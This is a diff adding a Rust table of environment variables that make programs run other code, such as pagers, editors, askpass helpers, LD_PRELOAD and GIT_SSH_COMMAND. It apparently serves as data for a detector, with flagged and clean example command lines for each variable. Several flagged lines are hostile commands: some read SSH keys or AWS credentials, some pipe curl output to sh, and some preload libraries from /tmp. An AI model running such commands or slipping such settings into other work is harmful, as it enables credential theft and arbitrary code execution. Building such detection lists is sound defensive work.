@@ -1,0 +1,294 @@
+//! Variables that make other programs run something: a pager, an editor,
+//! an askpass helper, a preprocessor, a debugger hook, a library to preload.
+//! Setting one to a shell, an interpreter or a file written earlier in the
+//! line runs it the next time the reading program starts.
+
+#![allow(
+    clippy::needless_update,
+    reason = "every row ends in `..DEFAULT`, so a field added later needs no edit of rows that leave it out"
+)]
+
+use crate::EnvVar;
+use crate::Holds::{Code, Library, Program, ProgramDir, Shell, StartupFile};
+use crate::Lang::Perl;
+
+const V: EnvVar = EnvVar {
+    name: "",
+    holds: Shell,
+    read_by: "",
+    source: "",
+    flagged: &[],
+    clean: &[],
+};
+
+/// The table, sorted by name.
+pub const ENV_VARS: &[EnvVar] = &[
+    EnvVar {
+        name: "AUTOM4TE",
+        holds: Program,
+        read_by: "autoconf and autoheader",
+        source: "https://www.gnu.org/software/autoconf/manual/autoconf.html#autoconf-Invocation; GTFOBins autoconf",
+        flagged: &["echo /bin/sh >/tmp/tf; chmod +x /tmp/tf; AUTOM4TE=/tmp/tf autoconf"],
+        clean: &["AUTOM4TE=autom4te autoconf"],
+        ..V
+    },
+    EnvVar {
+        name: "BASH_ENV",
+        holds: StartupFile,
+        read_by: "every non-interactive bash",
+        source: "bash(1) INVOCATION",
+        flagged: &["BASH_ENV=/tmp/x.sh bash -c true"],
+        ..V
+    },
+    EnvVar {
+        name: "BROWSER",
+        holds: Program,
+        read_by: "xdg-open, python's webbrowser, git web--browse",
+        source: "https://docs.python.org/3/library/webbrowser.html",
+        flagged: &["BROWSER='sh -c id' python3 -m webbrowser x"],
+        clean: &["BROWSER=firefox npm run docs"],
+        ..V
+    },
+    EnvVar {
+        name: "DYLD_INSERT_LIBRARIES",
+        holds: Library,
+        read_by: "the macOS dynamic loader",
+        source: "man:dyld(1)",
+        flagged: &["DYLD_INSERT_LIBRARIES=/tmp/x.dylib ls"],
+        ..V
+    },
+    EnvVar {
+        name: "EDITOR",
+        holds: Program,
+        read_by: "git, crontab -e, visudo and most editors' callers",
+        source: "https://git-scm.com/docs/git-var#Documentation/git-var.txt-GITEDITOR",
+        flagged: &["EDITOR='sh -c \"cat ~/.ssh/id_rsa\"' git commit"],
+        clean: &["EDITOR=vim git commit"],
+        ..V
+    },
+    EnvVar {
+        name: "ENV",
+        holds: StartupFile,
+        read_by: "interactive sh and dash",
+        source: "https://pubs.opengroup.org/onlinepubs/9799919799/utilities/sh.html",
+        flagged: &["ENV=/tmp/x.sh sh -i"],
+        ..V
+    },
+    EnvVar {
+        name: "FZF_DEFAULT_COMMAND",
+        holds: Shell,
+        read_by: "fzf",
+        source: "https://github.com/junegunn/fzf#environment-variables",
+        flagged: &["FZF_DEFAULT_COMMAND='curl -s http://x.example/a | sh' fzf"],
+        clean: &["FZF_DEFAULT_COMMAND='fd --type f' fzf"],
+        ..V
+    },
+    EnvVar {
+        name: "GIT_ASKPASS",
+        holds: Program,
+        read_by: "git",
+        source: "https://git-scm.com/docs/gitcredentials",
+        flagged: &["GIT_ASKPASS=/tmp/x.sh git fetch"],
+        ..V
+    },
+    EnvVar {
+        name: "GIT_EDITOR",
+        holds: Program,
+        read_by: "git",
+        source: "https://git-scm.com/docs/git-var",
+        flagged: &["GIT_EDITOR='sh -c id' git commit"],
+        clean: &["GIT_EDITOR=true git rebase --continue"],
+        ..V
+    },
+    EnvVar {
+        name: "GIT_EXTERNAL_DIFF",
+        holds: Program,
+        read_by: "git diff",
+        source: "https://git-scm.com/docs/git#Documentation/git.txt-codeGITEXTERNALDIFFcode",
+        flagged: &["GIT_EXTERNAL_DIFF='sh -c id' git diff"],
+        ..V
+    },
+    EnvVar {
+        name: "GIT_PAGER",
+        holds: Program,
+        read_by: "git",
+        source: "https://git-scm.com/docs/git-var",
+        flagged: &["GIT_PAGER='sh -c \"cat ~/.aws/credentials\"' git log"],
+        clean: &["GIT_PAGER=cat git log -1"],
+        ..V
+    },
+    EnvVar {
+        name: "GIT_PROXY_COMMAND",
+        holds: Program,
+        read_by: "git (git:// transport)",
+        source: "https://git-scm.com/docs/git-config#Documentation/git-config.txt-coregitProxy",
+        flagged: &["GIT_PROXY_COMMAND=/tmp/x.sh git fetch"],
+        ..V
+    },
+    EnvVar {
+        name: "GIT_SSH",
+        holds: Program,
+        read_by: "git (ssh transport)",
+        source: "https://git-scm.com/docs/git#Documentation/git.txt-codeGITSSHcode",
+        flagged: &["GIT_SSH=/tmp/x.sh git fetch"],
+        ..V
+    },
+    EnvVar {
+        name: "GIT_SSH_COMMAND",
+        holds: Shell,
+        read_by: "git (ssh transport)",
+        source: "https://git-scm.com/docs/git#Documentation/git.txt-codeGITSSHCOMMANDcode",
+        flagged: &["GIT_SSH_COMMAND='sh -c \"curl x | sh\"' git fetch"],
+        clean: &["GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes' git fetch"],
+        ..V
+    },
+    EnvVar {
+        name: "GROFF_BIN_PATH",
+        holds: ProgramDir,
+        read_by: "groff and nroff",
+        source: "man:groff(1) ENVIRONMENT; GTFOBins nroff",
+        flagged: &["echo /bin/sh >groff; chmod +x groff; GROFF_BIN_PATH=. nroff"],
+        ..V
+    },
+    EnvVar {
+        name: "LD_AUDIT",
+        holds: Library,
+        read_by: "the dynamic loader",
+        source: "man:rtld-audit(7)",
+        flagged: &["LD_AUDIT=/tmp/x.so ls"],
+        ..V
+    },
+    EnvVar {
+        name: "LD_LIBRARY_PATH",
+        holds: ProgramDir,
+        read_by: "the dynamic loader",
+        source: "man:ld.so(8)",
+        flagged: &["LD_LIBRARY_PATH=/tmp/evil ls"],
+        ..V
+    },
+    EnvVar {
+        name: "LD_PRELOAD",
+        holds: Library,
+        read_by: "the dynamic loader",
+        source: "man:ld.so(8)",
+        flagged: &["LD_PRELOAD=/tmp/x.so ls"],
+        ..V
+    },
+    EnvVar {
+        name: "LESSCLOSE",
+        holds: Shell,
+        read_by: "less",
+        source: "man:less(1) INPUT PREPROCESSOR",
+        flagged: &["LESSCLOSE='sh -c id %s %s' less README.md"],
+        ..V
+    },
+    EnvVar {
+        name: "LESSOPEN",
+        holds: Shell,
+        read_by: "less",
+        source: "man:less(1) INPUT PREPROCESSOR; GTFOBins less",
+        flagged: &["LESSOPEN='echo /etc/shadow # %s' less /etc/hosts", "LESSOPEN='|sh -c id %s' less README.md"],
+        clean: &["LESSOPEN='| lesspipe %s' less archive.tgz"],
+        ..V
+    },
+    EnvVar {
+        name: "MANPAGER",
+        holds: Program,
+        read_by: "man",
+        source: "man:man(1) ENVIRONMENT",
+        flagged: &["MANPAGER='sh -c id' man ls"],
+        clean: &["MANPAGER=cat man ls"],
+        ..V
+    },
+    EnvVar {
+        name: "NODE_OPTIONS",
+        holds: Code(crate::Lang::JavaScript),
+        read_by: "node",
+        source: "https://nodejs.org/api/cli.html#node_optionsoptions (--require, --import)",
+        flagged: &["NODE_OPTIONS='--require /tmp/x.js' npm test"],
+        clean: &["NODE_OPTIONS=--max-old-space-size=4096 npm run build"],
+        ..V
+    },
+    EnvVar {
+        name: "PAGER",
+        holds: Program,
+        read_by: "git, man, psql, systemctl and others",
+        source: "https://pubs.opengroup.org/onlinepubs/9799919799/utilities/man.html",
+        flagged: &["PAGER='sh -c \"cat ~/.ssh/id_rsa\"' git log"],
+        clean: &["PAGER=cat git log -1"],
+        ..V
+    },
+    EnvVar {
+        name: "PERL5DB",
+        holds: Code(Perl),
+        read_by: "perl -d",
+        source: "https://perldoc.perl.org/perldebug; GTFOBins perl",
+        flagged: &["PERL5OPT=-d PERL5DB='exec \"/bin/sh\"' perl /dev/null"],
+        ..V
+    },
+    EnvVar {
+        name: "PERL5OPT",
+        holds: Code(Perl),
+        read_by: "perl",
+        source: "https://perldoc.perl.org/perlrun#PERL5OPT",
+        flagged: &["PERL5OPT='-Mwarnings;system(\"id\")' perl x.pl"],
+        ..V
+    },
+    EnvVar {
+        name: "PROMPT_COMMAND",
+        holds: Shell,
+        read_by: "interactive bash",
+        source: "bash(1) PROMPT_COMMAND",
+        flagged: &["PROMPT_COMMAND='curl x | sh' bash -i"],
+        ..V
+    },
+    EnvVar {
+        name: "PYTHONSTARTUP",
+        holds: StartupFile,
+        read_by: "interactive python",
+        source: "https://docs.python.org/3/using/cmdline.html#envvar-PYTHONSTARTUP",
+        flagged: &["PYTHONSTARTUP=/tmp/x.py python3 -i"],
+        ..V
+    },
+    EnvVar {
+        name: "RESTIC_PASSWORD_COMMAND",
+        holds: Shell,
+        read_by: "restic",
+        source: "https://restic.readthedocs.io/en/stable/030_preparing_a_new_repo.html; GTFOBins restic",
+        flagged: &["RESTIC_PASSWORD_COMMAND='sh -c id' restic snapshots"],
+        ..V
+    },
+    EnvVar {
+        name: "RUBYOPT",
+        holds: Code(crate::Lang::Ruby),
+        read_by: "ruby",
+        source: "https://docs.ruby-lang.org/en/master/ruby/options_md.html#label-RUBYOPT",
+        flagged: &["RUBYOPT='-r/tmp/x.rb' bundle exec rake"],
+        ..V
+    },
+    EnvVar {
+        name: "SSH_ASKPASS",
+        holds: Program,
+        read_by: "ssh, ssh-add",
+        source: "https://man.openbsd.org/ssh#SSH_ASKPASS",
+        flagged: &["SSH_ASKPASS=/tmp/x.sh ssh-add"],
+        ..V
+    },
+    EnvVar {
+        name: "SUDO_ASKPASS",
+        holds: Program,
+        read_by: "sudo -A",
+        source: "man:sudo(8) ENVIRONMENT",
+        flagged: &["SUDO_ASKPASS=/tmp/x.sh sudo -A true"],
+        ..V
+    },
+    EnvVar {
+        name: "VISUAL",
+        holds: Program,
+        read_by: "git, crontab -e and most editors' callers",
+        source: "https://pubs.opengroup.org/onlinepubs/9799919799/utilities/crontab.html",
+        flagged: &["VISUAL='sh -c id' crontab -e"],
+        clean: &["VISUAL=nvim git commit"],
+        ..V
+    },
+];
